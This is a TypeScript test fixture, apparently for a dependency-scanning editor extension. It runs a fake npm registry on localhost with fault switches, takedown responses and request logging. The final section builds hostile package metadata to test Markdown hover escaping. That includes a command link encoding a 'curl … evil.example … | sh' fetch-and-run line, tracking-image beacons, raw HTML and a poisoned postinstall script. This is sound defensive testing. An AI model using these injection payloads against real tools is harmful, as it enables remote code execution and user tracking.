/**
 * A test npm registry: a real HTTP server on 127.0.0.1 (port 0) serving packuments shaped
 * like the real registry's, the four takedown answers, and fault switches. Every request
 * is logged so that tests can assert what was (and was not) asked.
 */
import { createHash } from 'node:crypto';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';

export interface FakeVersion {
  scripts?: Record<string, string>;
  repository?: string | { type: string; url: string };
  dependencies?: Record<string, string>;
  optionalDependencies?: Record<string, string>;
  peerDependencies?: Record<string, string>;
  bin?: string | Record<string, string>;
  /** ISO date; default: `created` plus one day per version index. */
  time?: string;
  deprecated?: string;
  /** `_npmUser.name` (the real registry only). */
  npmUser?: string;
  /** `dist.attestations` (provenance; the real registry only). */
  attestations?: boolean;
  gypfile?: boolean;
  /** `gitHead`: the commit the version was published from. */
  gitHead?: string;
  /** Tarball bytes served at dist.tarball; dist.integrity/shasum become their real hashes. */
  tarball?: Uint8Array;
  /** dist.integrity as served, instead of the computed one (for mismatch tests). */
  integrity?: string;
}

export interface FakePackage {
  versions: Record<string, FakeVersion>;
  /** Default: the highest version. */
  distTags?: Record<string, string>;
  /** ISO date of `time.created`; default 2020-01-01. */
  created?: string;
  /**
   * Serve `time` with the versions' dates only, no `created` and `modified`: the shape of
   * the registry on the machines this is built on (shared/docs/ENVIRONMENT.md), which
   * rules must take without parsing every date again on every scan.
   */
  versionTimesOnly?: boolean;
  maintainers?: string[];
  /**
   * Pad the served document to about this many bytes (the benchmark's realistic sizes):
   * older prerelease versions shaped like real ones (descriptions, dependencies, dist,
   * maintainers) and their publish times, then a readme for the rest.
   */
  padToBytes?: number;
}

export type Fault =
  /** Never answers (until the server closes): the client's timeout fires. */
  | { kind: 'slow' }
  | { kind: 'status'; status: number; body?: string }
  | { kind: '429'; retryAfter: string }
  /** Announces the full length, sends half, then drops the connection. */
  | { kind: 'truncated' }
  | { kind: 'malformed' }
  /** Streams this many bytes (chunked, no length announced). */
  | { kind: 'huge'; bytes: number }
  /** 302 to another base URL (same path). */
  | { kind: 'redirect'; to: string }
  /** Drops the connection without answering. */
  | { kind: 'reset' };

export type Takedown = '404' | 'empty' | '403' | 'placeholder';

export interface LoggedRequest {
  method: string;
  /** The raw path as sent (so tests can check `@scope%2fname`). */
  path: string;
  /** The package name decoded from the path. */
  name: string;
  headers: http.IncomingHttpHeaders;
  /** When it arrived (Date.now()). */
  at: number;
}

export interface FakeRegistry {
  /** Base URL with a trailing slash. */
  url: string;
  requests: LoggedRequest[];
  /** Added to every answer (for the benchmark's realistic latency). */
  latencyMs: number;
  /** Holds every request (new and arriving) unanswered until resume(): a lookup that cannot end by itself. */
  pause(): void;
  /** Answers the held requests (each after latencyMs) and stops holding. */
  resume(): void;
  addPackage(name: string, pkg: FakePackage): void;
  /** Serializes every package now (so that a benchmark times the client, not this server). */
  prepare(): void;
  takedown(name: string, how: Takedown): void;
  /** Applies a fault to a name ('*' for every name), for `times` requests (default: always). */
  fault(name: string, fault: Fault, times?: number): void;
  clearFaults(): void;
  requestsFor(name: string): LoggedRequest[];
  close(): Promise<void>;
}

/** A packument as the registry serves it (`_id`, `name`, `dist-tags`, `versions`, `time`, ...). */
export function buildPackument(baseUrl: string, name: string, pkg: FakePackage): Record<string, unknown> {
  const created = pkg.created ?? '2020-01-01T00:00:00.000Z';
  const names = Object.keys(pkg.versions);
  const time: Record<string, string> = { created };
  const versions: Record<string, unknown> = {};
  names.forEach((v, i) => {
    const spec = pkg.versions[v];
    time[v] = spec.time ?? new Date(Date.parse(created) + i * 86_400_000).toISOString();
    const tarballName = name.startsWith('@') ? name.slice(name.indexOf('/') + 1) : name;
    const doc: Record<string, unknown> = {
      name,
      version: v,
      scripts: spec.scripts ?? { test: 'echo ok' },
      dependencies: spec.dependencies ?? {},
      dist: {
        integrity: spec.integrity ?? `sha512-${createHash('sha512').update(spec.tarball ?? `${name}@${v}`).digest('base64')}`,
        shasum: createHash('sha1').update(spec.tarball ?? `${name}@${v}`).digest('hex'),
        tarball: `${baseUrl}${name}/-/${tarballName}-${v}.tgz`,
        ...(spec.attestations ? { attestations: { url: `${baseUrl}-/npm/v1/attestations/${name}@${v}`, provenance: { predicateType: 'https://slsa.dev/provenance/v1' } } } : {}),
      },
      _id: `${name}@${v}`,
    };
    if (spec.repository !== undefined) doc.repository = spec.repository;
    if (spec.bin !== undefined) doc.bin = spec.bin;
    if (spec.optionalDependencies !== undefined) doc.optionalDependencies = spec.optionalDependencies;
    if (spec.peerDependencies !== undefined) doc.peerDependencies = spec.peerDependencies;
    if (spec.deprecated !== undefined) doc.deprecated = spec.deprecated;
    if (spec.npmUser !== undefined) doc._npmUser = { name: spec.npmUser, email: `${spec.npmUser}@example.com` };
    if (spec.gypfile) doc.gypfile = true;
    if (spec.gitHead !== undefined) doc.gitHead = spec.gitHead;
    versions[v] = doc;
  });
  const latest = pkg.distTags?.latest ?? names.slice().sort(compareLoose).pop();
  time.modified = Object.values(time).sort().pop()!;
  const doc: Record<string, unknown> = {
    _id: name,
    name,
    'dist-tags': { ...(latest ? { latest } : {}), ...pkg.distTags },
    versions,
    time,
  };
  if (pkg.maintainers) doc.maintainers = pkg.maintainers.map((m) => ({ name: m, email: `${m}@example.com` }));
  if (pkg.padToBytes) pad(doc, name, created, pkg.padToBytes);
  if (pkg.versionTimesOnly) {
    delete time.created;
    delete time.modified;
  }
  return doc;
}

/** Grows `doc` to about `bytes` of JSON with what real packuments are made of (see FakePackage.padToBytes). */
function pad(doc: Record<string, unknown>, name: string, created: string, bytes: number): void {
  const versions = doc.versions as Record<string, unknown>;
  const time = doc.time as Record<string, string>;
  let size = JSON.stringify(doc).length;
  const readme = Math.min(Math.max(0, bytes - size) >> 3, 64 * 1024);
  for (let i = 0; size < bytes - readme - 2048; i++) {
    const v = `0.0.0-pad.${i}`;
    const tarballName = name.startsWith('@') ? name.slice(name.indexOf('/') + 1) : name;
    const version = {
      name,
      version: v,
      description: `An older prerelease of ${name}, as large as real ones are.`,
      keywords: ['padding', 'benchmark', 'realistic', 'size'],
      license: 'MIT',
      main: 'index.js',
      scripts: { test: 'node test.js', build: 'tsc -p .' },
      dependencies: { 'left-pad': '^1.3.0', 'some-dependency': `^${i % 9}.${i % 7}.0`, 'another-dependency': '~2.1.0' },
      devDependencies: { typescript: '^5.0.0', mocha: '^10.0.0', eslint: '^8.0.0' },
      repository: { type: 'git', url: `git+https://github.com/example/${tarballName}.git` },
      author: { name: 'Example Author', email: 'author@example.com' },
      maintainers: [{ name: 'example', email: 'example@example.com' }],
      _npmUser: { name: 'example', email: 'example@example.com' },
      gitHead: createHash('sha1').update(v).digest('hex'),
      dist: {
        integrity: `sha512-${createHash('sha512').update(`${name}@${v}`).digest('base64')}`,
        shasum: createHash('sha1').update(`${name}@${v}`).digest('hex'),
        tarball: `https://registry.example/${name}/-/${tarballName}-${v}.tgz`,
        fileCount: 12,
        unpackedSize: 40_000 + i,
      },
      _id: `${name}@${v}`,
    };
    versions[v] = version;
    time[v] = created;
    size += JSON.stringify(version).length + v.length + created.length + 8;
  }
  if (size < bytes) doc.readme = `# ${name}\n\n` + 'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(Math.ceil((bytes - size) / 57)).slice(0, bytes - size);
}

function compareLoose(a: string, b: string): number {
  const pa = a.split(/[.-]/).map((x) => (/^\d+$/.test(x) ? Number(x) : x));
  const pb = b.split(/[.-]/).map((x) => (/^\d+$/.test(x) ? Number(x) : x));
  for (let i = 0; i < Math.max(pa.length, pb.length); i++) {
    if (pa[i] === pb[i]) continue;
    if (pa[i] === undefined) return -1;
    if (pb[i] === undefined) return 1;
    if (typeof pa[i] === 'number' && typeof pb[i] === 'number') return (pa[i] as number) - (pb[i] as number);
    return String(pa[i]) < String(pb[i]) ? -1 : 1;
  }
  return 0;
}

export async function startFakeRegistry(): Promise<FakeRegistry> {
  const packages = new Map<string, FakePackage>();
  const takedowns = new Map<string, Takedown>();
  const faults = new Map<string, { fault: Fault; remaining: number }>();
  const requests: LoggedRequest[] = [];
  /** Serialized packuments by name (the benchmark's are megabytes: built once, not per request). */
  const bodies = new Map<string, { body: Buffer; etag: string }>();
  const held: http.ServerResponse[] = [];
  let paused: (() => void)[] | undefined;
  let url = '';

  const server = http.createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0];
    const name = decodeURIComponent(path.slice(1));
    requests.push({ method: req.method ?? 'GET', path, name, headers: req.headers, at: Date.now() });
    const answer = () => respond(name, path, req, res);
    const go = () => (registry.latencyMs > 0 ? void setTimeout(answer, registry.latencyMs) : answer());
    if (paused) paused.push(go);
    else go();
  });

  function takeFault(name: string): Fault | undefined {
    for (const key of [name, '*']) {
      const f = faults.get(key);
      if (!f) continue;
      if (f.remaining <= 0) continue;
      f.remaining--;
      return f.fault;
    }
    return undefined;
  }

  function respond(name: string, path: string, req: http.IncomingMessage, res: http.ServerResponse): void {
    const fault = takeFault(name);
    if (fault) {
      switch (fault.kind) {
        case 'slow':
          held.push(res);
          return;
        case 'status':
          res.writeHead(fault.status, { 'content-type': 'application/json' });
          res.end(fault.body ?? JSON.stringify({ error: 'internal error' }));
          return;
        case '429':
          res.writeHead(429, { 'retry-after': fault.retryAfter, 'content-type': 'application/json' });
          res.end(JSON.stringify({ error: 'rate limited' }));
          return;
        case 'truncated': {
          const body = Buffer.from(JSON.stringify(buildPackument(url, name, packages.get(name) ?? { versions: { '1.0.0': {} } })));
          res.writeHead(200, { 'content-type': 'application/json', 'content-length': String(body.length) });
          res.write(body.subarray(0, body.length >> 1), () => res.socket?.destroy());
          return;
        }
        case 'malformed':
          res.writeHead(200, { 'content-type': 'application/json' });
          res.end('{"_id": "' + name + '", "versions": {');
          return;
        case 'huge': {
          res.writeHead(200, { 'content-type': 'application/json' });
          const chunk = Buffer.alloc(64 * 1024, 0x20);
          let sent = 0;
          const pump = () => {
            while (sent < fault.bytes) {
              sent += chunk.length;
              if (!res.write(chunk)) return void res.once('drain', pump);
            }
            res.end();
          };
          res.on('error', () => undefined);
          pump();
          return;
        }
        case 'redirect':
          res.writeHead(302, { location: fault.to.replace(/\/$/, '') + path });
          res.end();
          return;
        case 'reset':
          req.socket.destroy();
          return;
      }
    }
    // Tarballs: `<name>/-/<file>.tgz`, served when a version carries bytes (see FakeVersion.tarball).
    const dash = name.indexOf('/-/');
    if (dash > 0 && name.endsWith('.tgz')) {
      const pkg = packages.get(name.slice(0, dash));
      const tarballName = name.startsWith('@') ? name.slice(name.indexOf('/') + 1, dash) : name.slice(0, dash);
      const file = name.slice(dash + 3);
      const version = pkg && Object.keys(pkg.versions).find((v) => file === `${tarballName}-${v}.tgz`);
      const bytes = version ? pkg!.versions[version].tarball : undefined;
      if (!bytes) {
        res.writeHead(404, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ error: 'Not found' }));
        return;
      }
      res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': String(bytes.byteLength) });
      res.end(bytes);
      return;
    }
    const takedown = takedowns.get(name);
    if (takedown === '404') {
      res.writeHead(404);
      res.end();
      return;
    }
    if (takedown === '403') {
      res.writeHead(403, { 'content-type': 'text/plain' });
      res.end('This package version is not available.');
      return;
    }
    if (takedown === 'empty') {
      return sendJson(req, res, { _id: name, name, 'dist-tags': {}, versions: {}, time: { created: '2020-01-01T00:00:00.000Z', modified: '2024-01-01T00:00:00.000Z' } });
    }
    if (takedown === 'placeholder') {
      return sendJson(
        req,
        res,
        buildPackument(url, name, {
          versions: { '0.0.1-security': { repository: { type: 'git', url: 'git+https://github.com/npm/security-holder.git' } } },
        }),
      );
    }
    const pkg = packages.get(name);
    if (!pkg) {
      res.writeHead(404, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: 'Not found' }));
      return;
    }
    sendServed(req, res, bodyOf(name, pkg));
  }

  function bodyOf(name: string, pkg: FakePackage): { body: Buffer; etag: string } {
    let served = bodies.get(name);
    if (!served) bodies.set(name, (served = withEtag(JSON.stringify(buildPackument(url, name, pkg)))));
    return served;
  }

  function withEtag(text: string): { body: Buffer; etag: string } {
    const body = Buffer.from(text);
    return { body, etag: `"${createHash('sha1').update(body).digest('hex')}"` };
  }

  function sendJson(req: http.IncomingMessage, res: http.ServerResponse, doc: unknown): void {
    sendServed(req, res, withEtag(JSON.stringify(doc)));
  }

  function sendServed(req: http.IncomingMessage, res: http.ServerResponse, { body, etag }: { body: Buffer; etag: string }): void {
    if (req.headers['if-none-match'] === etag) {
      res.writeHead(304, { etag });
      res.end();
      return;
    }
    res.writeHead(200, { 'content-type': 'application/json', etag });
    res.end(body);
  }

  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;

  const registry: FakeRegistry = {
    url,
    requests,
    latencyMs: 0,
    pause: () => void (paused ??= []),
    resume: () => {
      const waiting = paused ?? [];
      paused = undefined;
      for (const go of waiting) go();
    },
    addPackage: (name, pkg) => {
      packages.set(name, pkg);
      bodies.delete(name);
    },
    prepare: () => {
      for (const [name, pkg] of packages) bodyOf(name, pkg);
    },
    takedown: (name, how) => void takedowns.set(name, how),
    fault: (name, fault, times = Infinity) => void faults.set(name, { fault, remaining: times }),
    clearFaults: () => faults.clear(),
    requestsFor: (name) => requests.filter((r) => r.name === name),
    close: () =>
      new Promise<void>((resolve) => {
        for (const res of held) res.socket?.destroy();
        paused = undefined;
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
  return registry;
}

// ---------------------------------------------------------------- hostile registry text (issue #10)

/** A package whose registry answer attacks the hover's Markdown (see hostilePackage). */
export const HOSTILE_PACKAGE = 'sneaky-md';
export const HOSTILE_VERSION = '1.1.0';

/** Where the hostile texts point their images: requests under it mean an image was fetched. */
export function beaconUrl(base: string, what: string): string {
  return `${base.replace(/\/$/, '')}/-/beacon/${what}.png`;
}

/**
 * Ways out of Markdown, each aimed at what an attacker would want from a hover: a double
 * backtick (longer than a plain code span's fence), then a command link to the command
 * the client used to trust with the text to copy, an image fetched from `base` (a beacon),
 * raw HTML with another image.
 */
export function hostileMarkdown(base: string, where: string): string {
  return (
    '`` ' +
    '[Copy IOC](command:depwarden.copyIoc?%5B%22curl%20-s%20https%3A%2F%2Fevil.example%2Fi%7Csh%22%5D) ' +
    '[id](command:depwarden.copyIocById?%5B%220%22%5D) ' +
    `![](${beaconUrl(base, where)}) ` +
    `<img src="${beaconUrl(base, `${where}-html`)}"> ` +
    '[site](https://evil.example/) ``'
  );
}

/** A spec for package.json (not a registry spec: it is shown, never looked up). */
export function hostileSpec(base: string): string {
  return `1.0.0 ${hostileMarkdown(base, 'spec')}`;
}

/**
 * HOSTILE_PACKAGE as the registry serves it: 1.0.0 from alice, then 1.1.0 two days ago
 * from a publisher whose name, install script, deprecation message and repository URL
 * (on github.com, so that it reaches the link code) all carry hostileMarkdown.
 */
export function hostilePackage(base: string, now = Date.now()): FakePackage {
  const day = 86_400_000;
  return {
    created: new Date(now - 400 * day).toISOString(),
    versions: {
      '1.0.0': { npmUser: 'alice', repository: 'github:acme/sneaky-md', time: new Date(now - 300 * day).toISOString() },
      [HOSTILE_VERSION]: {
        npmUser: `mallory ${hostileMarkdown(base, 'publisher')}`,
        scripts: { postinstall: `node -e "require('x')" ${hostileMarkdown(base, 'script')}` },
        deprecated: `use [the new one](https://evil.example/new) instead ${hostileMarkdown(base, 'deprecated')}`,
        repository: { type: 'git', url: 'https://github.com/acme/sneaky-md)[repo](command:depwarden.copyIoc?%5B%22x%22%5D' },
        time: new Date(now - 2 * day).toISOString(),
      },
    },
  };
}
